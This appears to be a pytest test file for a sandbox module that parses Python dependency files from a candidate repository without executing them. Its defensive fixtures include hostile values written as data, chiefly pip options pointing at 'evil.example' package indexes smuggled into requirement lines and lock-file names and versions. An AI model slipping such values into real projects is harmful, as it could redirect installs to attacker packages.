"""What a candidate's repository says it depends on, read as data: lock files first (exact versions of the main
dependencies), then requirements*.txt, pyproject (PEP 621 or Poetry), Pipfile, setup.cfg and setup.py (never run).
Written from the candidate's side: the files are the kind real projects commit."""

from __future__ import annotations

import json
import random
from pathlib import Path

import pytest

from sandboxes.dependency_files import MAX_FILE_BYTES, collect_requirements, poetry_specifier

UV_LOCK = """\
version = 1
requires-python = ">=3.11"

[[package]]
name = "anyio"
version = "4.6.2.post1"
source = { registry = "https://pypi.org/simple" }
dependencies = [
    { name = "idna" },
    { name = "sniffio" },
]
sdist = { url = "https://files.pythonhosted.org/packages/anyio-4.6.2.post1.tar.gz", hash = "sha256:4c8bc3", size = 173422 }
wheels = [
    { url = "https://files.pythonhosted.org/packages/anyio-4.6.2.post1-py3-none-any.whl", hash = "sha256:6d170c", size = 90377 },
]

[[package]]
name = "click"
version = "8.1.7"
source = { registry = "https://pypi.org/simple" }
dependencies = [
    { name = "colorama", marker = "platform_system == 'Windows'" },
]

[[package]]
name = "colorama"
version = "0.4.6"
source = { registry = "https://pypi.org/simple" }

[[package]]
name = "fastapi"
version = "0.115.6"
source = { registry = "https://pypi.org/simple" }
dependencies = [
    { name = "pydantic" },
    { name = "starlette" },
    { name = "typing-extensions" },
]

[[package]]
name = "h11"
version = "0.14.0"
source = { registry = "https://pypi.org/simple" }

[[package]]
name = "httptools"
version = "0.6.4"
source = { registry = "https://pypi.org/simple" }

[[package]]
name = "idna"
version = "3.10"
source = { registry = "https://pypi.org/simple" }

[[package]]
name = "iniconfig"
version = "2.0.0"
source = { registry = "https://pypi.org/simple" }

[[package]]
name = "mylib"
version = "0.3.0"
source = { git = "https://github.com/acme/mylib?rev=main#4f1c2d9" }

[[package]]
name = "pydantic"
version = "2.10.3"
source = { registry = "https://pypi.org/simple" }
dependencies = [
    { name = "typing-extensions" },
]

[[package]]
name = "pytest"
version = "8.3.4"
source = { registry = "https://pypi.org/simple" }
dependencies = [
    { name = "iniconfig" },
]

[[package]]
name = "pywin32"
version = "308"
source = { registry = "https://pypi.org/simple" }

[[package]]
name = "rag-app"
version = "0.1.0"
source = { editable = "." }
dependencies = [
    { name = "fastapi" },
    { name = "mylib" },
    { name = "pywin32", marker = "sys_platform == 'win32'" },
    { name = "uvicorn", extra = ["standard"] },
]

[package.optional-dependencies]
gpu = [
    { name = "torch" },
]

[package.dev-dependencies]
dev = [
    { name = "pytest" },
]

[package.metadata]
requires-dist = [
    { name = "fastapi", specifier = ">=0.115" },
    { name = "mylib", git = "https://github.com/acme/mylib?rev=main" },
    { name = "pywin32", marker = "sys_platform == 'win32'" },
    { name = "torch", marker = "extra == 'gpu'" },
    { name = "uvicorn", extras = ["standard"] },
]

[[package]]
name = "sniffio"
version = "1.3.1"
source = { registry = "https://pypi.org/simple" }

[[package]]
name = "starlette"
version = "0.41.3"
source = { registry = "https://pypi.org/simple" }
dependencies = [
    { name = "anyio" },
]

[[package]]
name = "torch"
version = "2.5.1"
source = { registry = "https://pypi.org/simple" }

[[package]]
name = "typing-extensions"
version = "4.12.2"
source = { registry = "https://pypi.org/simple" }

[[package]]
name = "uvicorn"
version = "0.32.1"
source = { registry = "https://pypi.org/simple" }
dependencies = [
    { name = "click" },
    { name = "h11" },
]

[package.optional-dependencies]
standard = [
    { name = "httptools" },
    { name = "uvloop", marker = "platform_python_implementation != 'PyPy' and sys_platform != 'cygwin' and sys_platform != 'win32'" },
]

[[package]]
name = "uvloop"
version = "0.21.0"
source = { registry = "https://pypi.org/simple" }
"""

UV_PYPROJECT = """\
[project]
name = "rag-app"
version = "0.1.0"
requires-python = ">=3.11"
dependencies = ["fastapi>=0.115", "uvicorn[standard]", "mylib", "pywin32; sys_platform == 'win32'"]

[project.optional-dependencies]
gpu = ["torch"]

[tool.uv]
dev-dependencies = ["pytest>=8"]

[tool.uv.sources]
mylib = { git = "https://github.com/acme/mylib", rev = "main" }
"""

POETRY_PYPROJECT = """\
[tool.poetry]
name = "support-bot"
version = "0.1.0"
description = "Answers support questions over our docs"
authors = ["Ada <ada@example.com>"]

[tool.poetry.dependencies]
python = "^3.11"
fastapi = "^0.115.0"
openai = {version = "^1.40", extras = []}
redis = {version = "^5.0", optional = true}

[tool.poetry.group.dev.dependencies]
pytest = "^8.0"

[tool.poetry.extras]
cache = ["redis"]

[build-system]
requires = ["poetry-core"]
build-backend = "poetry.core.masonry.api"
"""


def _poetry_package(
    name: str, version: str, category: str | None, dependencies: str = "", optional: bool = False
) -> str:
    lines = [
        "[[package]]",
        f'name = "{name}"',
        f'version = "{version}"',
        'description = ""',
        *([f'category = "{category}"'] if category else []),
        f"optional = {'true' if optional else 'false'}",
        'python-versions = ">=3.8"',
        "files = [",
        f'    {{file = "{name}-{version}-py3-none-any.whl", hash = "sha256:0f1e2d"}},',
        "]",
    ]
    if dependencies:
        lines += ["", "[package.dependencies]", dependencies]
    return "\n".join(lines) + "\n"


def _poetry_lock(*, with_category: bool) -> str:
    main, dev = ("main", "dev") if with_category else (None, None)
    packages = [
        _poetry_package("annotated-types", "0.7.0", main),
        _poetry_package(
            "anyio",
            "4.4.0",
            main,
            'exceptiongroup = {version = ">=1.0.2", markers = "python_version < \\"3.11\\""}\nidna = ">=2.8"\nsniffio = ">=1.1"',
        ),
        _poetry_package("colorama", "0.4.6", main),
        _poetry_package("distro", "1.9.0", main),
        _poetry_package("exceptiongroup", "1.2.2", main),
        _poetry_package("fastapi", "0.115.6", main, 'pydantic = ">=1.7.4"\nstarlette = ">=0.40.0,<0.42.0"'),
        _poetry_package("httpx", "0.27.2", main, 'anyio = "*"\nidna = "*"'),
        _poetry_package("idna", "3.10", main),
        _poetry_package("iniconfig", "2.0.0", dev),
        _poetry_package("openai", "1.57.0", main, 'distro = ">=1.7.0,<2"\nhttpx = ">=0.23.0,<1"\ntqdm = ">4"'),
        _poetry_package("pydantic", "2.10.3", main, 'annotated-types = ">=0.6.0"'),
        _poetry_package("pytest", "8.3.4", dev, 'iniconfig = "*"'),
        _poetry_package("redis", "5.2.1", main, optional=True),
        _poetry_package("sniffio", "1.3.1", main),
        _poetry_package("starlette", "0.41.3", main, 'anyio = ">=3.4.0,<5"'),
        _poetry_package(
            "tqdm", "4.67.1", main, 'colorama = {version = "*", markers = "platform_system == \\"Windows\\""}'
        ),
    ]
    metadata = '[metadata]\nlock-version = "{}"\npython-versions = "^3.11"\ncontent-hash = "9b2c1e"\n'
    header = "# This file is automatically @generated by Poetry and should not be changed by hand.\n\n"
    return header + "\n".join(packages) + "\n" + metadata.format("1.1" if with_category else "2.0")


POETRY_MAIN = {
    "annotated-types==0.7.0",
    "anyio==4.4.0",
    "distro==1.9.0",
    "exceptiongroup==1.2.2",
    "fastapi==0.115.6",
    "httpx==0.27.2",
    "idna==3.10",
    "openai==1.57.0",
    "pydantic==2.10.3",
    "sniffio==1.3.1",
    "starlette==0.41.3",
    "tqdm==4.67.1",
}

PIPFILE_LOCK = {
    "_meta": {"hash": {"sha256": "c1d2"}, "pipfile-spec": 6, "requires": {"python_version": "3.11"}, "sources": []},
    "default": {
        "certifi": {"hashes": ["sha256:922820"], "markers": "python_version >= '3.6'", "version": "==2024.8.30"},
        "mylib": {"editable": True, "git": "https://github.com/acme/mylib.git", "ref": "4f1c2d9"},
        "pywin32": {"hashes": ["sha256:00b3"], "markers": "sys_platform == 'win32'", "version": "==308"},
        "requests": {"hashes": ["sha256:55365f"], "index": "pypi", "version": "==2.32.3"},
        "uvicorn": {"extras": ["standard"], "hashes": ["sha256:ee9519"], "version": "==0.32.1"},
    },
    "develop": {"pytest": {"hashes": ["sha256:70b98"], "version": "==8.3.4"}},
}


def _write(root: Path, files: dict[str, str | bytes]) -> Path:
    for name, content in files.items():
        path = root / name
        path.parent.mkdir(parents=True, exist_ok=True)
        if isinstance(content, bytes):
            path.write_bytes(content)
        else:
            path.write_text(content)
    return root


def test_uv_lock_keeps_what_the_project_reaches_and_nothing_else(tmp_path: Path) -> None:
    root = _write(tmp_path, {"uv.lock": UV_LOCK, "pyproject.toml": UV_PYPROJECT, "requirements.txt": "flask\n"})
    collected = collect_requirements(root)
    assert [source.describe() for source in collected.sources] == ["uv.lock (uv.lock)"]
    assert set(collected.parsed.requirements) == {
        "fastapi==0.115.6",
        "pydantic==2.10.3",
        "starlette==0.41.3",
        "anyio==4.6.2.post1",
        "idna==3.10",
        "sniffio==1.3.1",
        "typing-extensions==4.12.2",
        "uvicorn==0.32.1",
        "click==8.1.7",
        "h11==0.14.0",
        "httptools==0.6.4",
        "uvloop==0.21.0",
    }, "dev group (pytest), the gpu extra (torch), Windows-only packages and the project itself stay out"
    [refused] = collected.parsed.refused
    assert refused.text.startswith("mylib") and "VCS" in refused.reason and refused.source == "uv.lock"
    assert refused.describe().startswith("line 0: mylib "), "grader.dynamic.run reads the refused names from this form"
    notes = " | ".join(collected.notes)
    assert "colorama" in notes and "pywin32" in notes, notes
    assert "requirements.txt" in notes, "a requirements file beside the lock is named as not read"


def test_uv_lock_without_a_pyproject_finds_the_root_by_its_source(tmp_path: Path) -> None:
    collected = collect_requirements(_write(tmp_path, {"uv.lock": UV_LOCK}))
    assert "fastapi==0.115.6" in collected.parsed.requirements
    assert not any(item.startswith(("rag-app", "pytest", "torch")) for item in collected.parsed.requirements)


def test_poetry_lock_without_categories_walks_from_the_main_dependencies(tmp_path: Path) -> None:
    root = _write(tmp_path, {"poetry.lock": _poetry_lock(with_category=False), "pyproject.toml": POETRY_PYPROJECT})
    collected = collect_requirements(root)
    assert collected.sources[0].kind == "poetry.lock"
    assert set(collected.parsed.requirements) == POETRY_MAIN, "pytest (dev), redis (optional), colorama (Windows)"


def test_old_poetry_lock_with_categories_drops_dev_and_optional(tmp_path: Path) -> None:
    root = _write(tmp_path, {"poetry.lock": _poetry_lock(with_category=True), "pyproject.toml": POETRY_PYPROJECT})
    collected = collect_requirements(root)
    # Categories say main or dev, not the platform: colorama is main there and comes along (it is pure Python).
    assert set(collected.parsed.requirements) == POETRY_MAIN | {"colorama==0.4.6"}
    assert any("development or optional" in note for note in collected.notes), collected.notes


def test_new_poetry_lock_without_its_pyproject_keeps_everything_and_says_so(tmp_path: Path) -> None:
    collected = collect_requirements(_write(tmp_path, {"poetry.lock": _poetry_lock(with_category=False)}))
    assert "pytest==8.3.4" in collected.parsed.requirements
    assert any("every package in it is kept" in note for note in collected.notes), collected.notes


def test_pipfile_lock_default_section_only(tmp_path: Path) -> None:
    root = _write(
        tmp_path, {"Pipfile.lock": json.dumps(PIPFILE_LOCK, indent=4), "Pipfile": "[packages]\nflask = '*'\n"}
    )
    collected = collect_requirements(root)
    assert collected.sources[0].describe() == "Pipfile.lock (Pipfile.lock)"
    assert collected.parsed.requirements == ["certifi==2024.8.30", "requests==2.32.3", "uvicorn==0.32.1"]
    assert [item.text for item in collected.parsed.refused] == ["mylib"]
    assert any("1 development packages" in note for note in collected.notes), collected.notes


def test_pipfile_packages_when_there_is_no_lock(tmp_path: Path) -> None:
    pipfile = """\
[[source]]
url = "https://pypi.org/simple"
verify_ssl = true
name = "pypi"

[packages]
requests = "*"
fastapi = "==0.115.6"
uvicorn = {version = ">=0.30", extras = ["standard"]}
mylib = {git = "https://github.com/acme/mylib.git", ref = "main"}

[dev-packages]
pytest = "*"
"""
    collected = collect_requirements(_write(tmp_path, {"Pipfile": pipfile}))
    assert collected.parsed.requirements == ["requests", "fastapi==0.115.6", "uvicorn[standard]>=0.30"]
    assert "VCS" in collected.parsed.refused[0].reason
    assert any("[dev-packages] not installed" in note for note in collected.notes)


@pytest.mark.parametrize(
    ("constraint", "specifier"),
    [
        ("^1.2.3", ">=1.2.3,<2.0.0"),
        ("^0.2.3", ">=0.2.3,<0.3.0"),
        ("^0.0.3", ">=0.0.3,<0.0.4"),
        ("^1", ">=1,<2"),
        ("^0", ">=0,<1"),
        ("~1.2", ">=1.2,<1.3"),
        ("~1.2.3", ">=1.2.3,<1.3.0"),
        ("~1", ">=1,<2"),
        ("~=1.4", "~=1.4"),
        ("*", ""),
        ("1.2.*", "==1.2.*"),
        ("1.2.3", "==1.2.3"),
        (">= 1.2, < 2.0", ">=1.2,<2.0"),
        (">=1.2 <2.0", ">=1.2,<2.0"),
        ("^1.0 || ^2.0", ">=2.0,<3.0"),
        ("^1.2.3b1", ">=1.2.3b1,<2.0.0"),
        ("latest", None),
        ("^x.y", None),
    ],
)
def test_poetry_constraints_become_pep_440(constraint: str, specifier: str | None) -> None:
    assert poetry_specifier(constraint) == specifier


def test_poetry_pyproject_without_a_lock(tmp_path: Path) -> None:
    pyproject = (
        POETRY_PYPROJECT.replace('redis = {version = "^5.0", optional = true}\n', "")
        + """
[tool.poetry.dependencies.uvicorn]
version = "~0.32"
extras = ["standard"]

[tool.poetry.dependencies.search]
version = "^1"
extras = ["x"]
optional = true

[tool.poetry.dependencies.mylib]
git = "https://github.com/acme/mylib.git"

[tool.poetry.dependencies.pywin32]
version = "*"
markers = "sys_platform == 'win32'"
"""
    )
    collected = collect_requirements(_write(tmp_path, {"pyproject.toml": pyproject}))
    assert collected.sources[0].kind == "pyproject (Poetry)"
    assert collected.parsed.requirements == [
        "fastapi<0.116.0,>=0.115.0",
        "openai<2.0,>=1.40",
        "uvicorn[standard]<0.33,>=0.32",
        'pywin32; sys_platform == "win32"',
    ], "python is not a package; an optional one is skipped; markers are kept for pip"
    assert [item.text.split()[0] for item in collected.parsed.refused] == ["mylib"]
    notes = " | ".join(collected.notes)
    assert "optional dependency search" in notes and "groups not installed: dev" in notes, notes


def test_pep_621_dependencies(tmp_path: Path) -> None:
    pyproject = '[project]\nname = "app"\ndependencies = ["fastapi==0.115.6", "lib @ https://x.example/lib.whl", 7]\n'
    collected = collect_requirements(_write(tmp_path, {"pyproject.toml": pyproject}))
    assert collected.sources[0].describe() == "pyproject.toml (pyproject (PEP 621))"
    assert collected.parsed.requirements == ["fastapi==0.115.6"]
    assert [
        "direct URL" in item.reason or "not a requirement string" in item.reason for item in collected.parsed.refused
    ] == [True, True]


def test_setup_py_literal_list_and_named_list(tmp_path: Path) -> None:
    literal = "from setuptools import setup\nsetup(name='app', install_requires=['fastapi>=0.110', 'httpx'])\n"
    assert collect_requirements(_write(tmp_path / "a", {"setup.py": literal})).parsed.requirements == [
        "fastapi>=0.110",
        "httpx",
    ]
    named = "import setuptools\n\nREQUIRES = [\n    'openai>=1.0',\n    'tiktoken',\n]\n\nsetuptools.setup(name='app', install_requires=REQUIRES)\n"
    collected = collect_requirements(_write(tmp_path / "b", {"setup.py": named}))
    assert collected.parsed.requirements == ["openai>=1.0", "tiktoken"]
    assert collected.sources[0].kind == "setup.py"


def test_setup_py_that_computes_its_requirements_is_not_run(tmp_path: Path) -> None:
    ran = tmp_path / "ran"
    computed = (
        "from setuptools import setup\n"
        f"open({str(ran)!r}, 'w').write('setup.py was executed')\n"
        "REQUIRES = open('requirements.in').read().splitlines()\n"
        "setup(name='app', install_requires=REQUIRES)\n"
    )
    collected = collect_requirements(_write(tmp_path / "repo", {"setup.py": computed, "requirements.in": "six\n"}))
    assert not ran.exists(), "setup.py must never be executed"
    assert collected.parsed.requirements == []
    assert any("computed" in note and "never run" in note for note in collected.notes), collected.notes
    appended = "from setuptools import setup\nREQ = ['a']\nREQ.append('b')\nsetup(install_requires=REQ)\n"
    assert collect_requirements(_write(tmp_path / "c", {"setup.py": appended})).parsed.requirements == []


def test_setup_cfg_install_requires(tmp_path: Path) -> None:
    setup_cfg = """\
[metadata]
name = app

[options]
packages = find:
install_requires =
    fastapi>=0.110
    uvicorn[standard]; python_version >= "3.9"
    -e git+https://github.com/acme/lib.git#egg=lib

[flake8]
max-line-length = 120
"""
    setup_py = "raise SystemExit('never run')\n"
    collected = collect_requirements(_write(tmp_path, {"setup.cfg": setup_cfg, "setup.py": setup_py}))
    assert collected.sources[0].kind == "setup.cfg"
    assert collected.parsed.requirements == ["fastapi>=0.110", 'uvicorn[standard]; python_version >= "3.9"']
    assert "editable" in collected.parsed.refused[0].reason


def test_requirements_in_the_app_directory_win_over_the_root(tmp_path: Path) -> None:
    root = _write(
        tmp_path,
        {
            "requirements.txt": "streamlit==1.40\n",
            "backend/requirements.txt": "fastapi==0.115.6\n-r requirements/base.txt\n--index-url http://evil.example/simple\n",
            "backend/requirements/base.txt": "openai==1.57.0\n",
            "backend/requirements-dev.txt": "pytest\n",
            "backend/requirements/test.txt": "pytest-asyncio\n",
            "backend/requirements-gpu.txt": "torch\n",
            "backend/app/main.py": "app = None\n",
        },
    )
    for app_dir in ("backend", "backend/app", "/backend/"):
        collected = collect_requirements(root, app_dir)
        assert [source.path for source in collected.sources] == [
            "backend/requirements.txt",
            "backend/requirements/base.txt",
        ]
        assert collected.parsed.requirements == ["fastapi==0.115.6", "openai==1.57.0"]
        [refused] = collected.parsed.refused
        assert refused.line == 3 and "another package index" in refused.reason, "the -r of a file read is not refused"
        notes = " | ".join(collected.notes)
        assert "backend/requirements-dev.txt not installed (development" in notes, notes
        assert "backend/requirements/test.txt not installed (development" in notes, notes
        assert "backend/requirements-gpu.txt not installed (not a main" in notes, notes
    assert collect_requirements(root).parsed.requirements == ["streamlit==1.40"]


def test_an_app_directory_outside_the_repository_reads_the_root(tmp_path: Path) -> None:
    root = _write(tmp_path / "repo", {"requirements.txt": "six\n"})
    _write(tmp_path, {"requirements.txt": "evil\n"})
    collected = collect_requirements(root, "../")
    assert collected.parsed.requirements == ["six"]
    assert any("outside the repository" in note for note in collected.notes)


def test_hostile_files_are_noted_never_raised(tmp_path: Path) -> None:
    root = _write(
        tmp_path / "repo",
        {
            "uv.lock": b"\x00\x01binary\xff" * 100,
            "poetry.lock": "[[package]\nname = ",
            "Pipfile.lock": '{"default": ' + "[" * 100_000,
            "requirements.txt": "a" * (MAX_FILE_BYTES + 10),
            "pyproject.toml": "[project\n",
            "setup.cfg": "[options\ninstall_requires = x",
            "setup.py": "x = " + "[" * 100_000,
        },
    )
    collected = collect_requirements(root)
    assert collected.parsed.requirements == [] and collected.sources == []
    notes = " | ".join(collected.notes)
    for expected in (
        "uv.lock is binary",
        "poetry.lock not read (Expected",
        "Pipfile.lock not read (maximum recursion",
        "over 2 MB",
        "pyproject.toml is not valid TOML",
        "setup.py could not be parsed",
    ):
        assert expected in notes, notes


def test_a_link_out_of_the_repository_is_not_read(tmp_path: Path) -> None:
    outside = _write(tmp_path / "outside", {"secret.txt": "password123\n"})
    root = tmp_path / "repo"
    root.mkdir()
    (root / "requirements.txt").symlink_to(outside / "secret.txt")
    (root / "uv.lock").symlink_to("/dev/zero")
    collected = collect_requirements(root)
    assert collected.parsed.requirements == []
    assert any("link out of the repository" in note for note in collected.notes), collected.notes


def test_names_and_versions_from_a_lock_pass_the_requirement_checks(tmp_path: Path) -> None:
    lock = """\
version = 1
[[package]]
name = "app"
version = "0.1.0"
source = { virtual = "." }
dependencies = [{ name = "--index-url" }, { name = "six" }, { name = "evil" }]

[[package]]
name = "--index-url"
version = "http://evil.example/simple"
source = { registry = "https://pypi.org/simple" }

[[package]]
name = "six"
version = "1.16.0 --find-links /etc"
source = { registry = "https://pypi.org/simple" }

[[package]]
name = "evil"
version = "1.0\\n--extra-index-url http://evil.example"
source = { registry = "https://pypi.org/simple" }
"""
    collected = collect_requirements(_write(tmp_path, {"uv.lock": lock}))
    assert collected.parsed.requirements == []
    assert len(collected.parsed.refused) == 3


def test_a_lock_with_thousands_of_packages_is_capped(tmp_path: Path) -> None:
    packages = "".join(
        f'[[package]]\nname = "p{index}"\nversion = "1.0"\nsource = {{ registry = "https://pypi.org/simple" }}\n\n'
        for index in range(2500)
    )
    collected = collect_requirements(_write(tmp_path, {"uv.lock": "version = 1\n\n" + packages}))
    assert len(collected.parsed.requirements) == 2000
    assert any("2500 packages" in note for note in collected.notes)


@pytest.mark.parametrize(
    "name",
    [
        "uv.lock",
        "poetry.lock",
        "Pipfile.lock",
        "pyproject.toml",
        "Pipfile",
        "setup.py",
        "setup.cfg",
        "requirements.txt",
    ],
)
def test_mangled_files_never_raise(tmp_path: Path, name: str) -> None:
    """Realistic files cut short or with bytes flipped, as a broken commit leaves them."""
    originals = {
        "uv.lock": UV_LOCK,
        "poetry.lock": _poetry_lock(with_category=False),
        "Pipfile.lock": json.dumps(PIPFILE_LOCK),
        "pyproject.toml": POETRY_PYPROJECT,
        "Pipfile": "[packages]\nrequests = '*'\nx = {version = 3}\n",
        "setup.py": "from setuptools import setup\nsetup(install_requires=['a', 'b'])\n",
        "setup.cfg": "[options]\ninstall_requires =\n    a\n    b\n",
        "requirements.txt": "fastapi==0.115.6\nhttpx\n",
    }
    chance = random.Random(name)
    text = originals[name]
    for attempt in range(60):
        mangled = list(text[: chance.randrange(len(text) + 1)])
        for _ in range(chance.randrange(4)):
            if mangled:
                mangled[chance.randrange(len(mangled))] = chance.choice("\"[]{}=\n#\\'~^*,")
        repo = _write(tmp_path / str(attempt), {name: "".join(mangled)})
        collected = collect_requirements(repo)
        assert all("\n" not in item for item in collected.parsed.requirements)


def test_a_requirements_file_powershell_wrote_in_utf16_is_read(tmp_path: Path) -> None:
    # `pip freeze > requirements.txt` in Windows PowerShell: UTF-16 LE with a byte-order mark, CRLF line ends.
    (tmp_path / "requirements.txt").write_bytes("fastapi==0.115.12\r\nuvicorn==0.34.0\r\n".encode("utf-16"))
    collected = collect_requirements(tmp_path)
    assert collected.parsed.requirements == ["fastapi==0.115.12", "uvicorn==0.34.0"]
    assert any("UTF-16" in note for note in collected.notes)
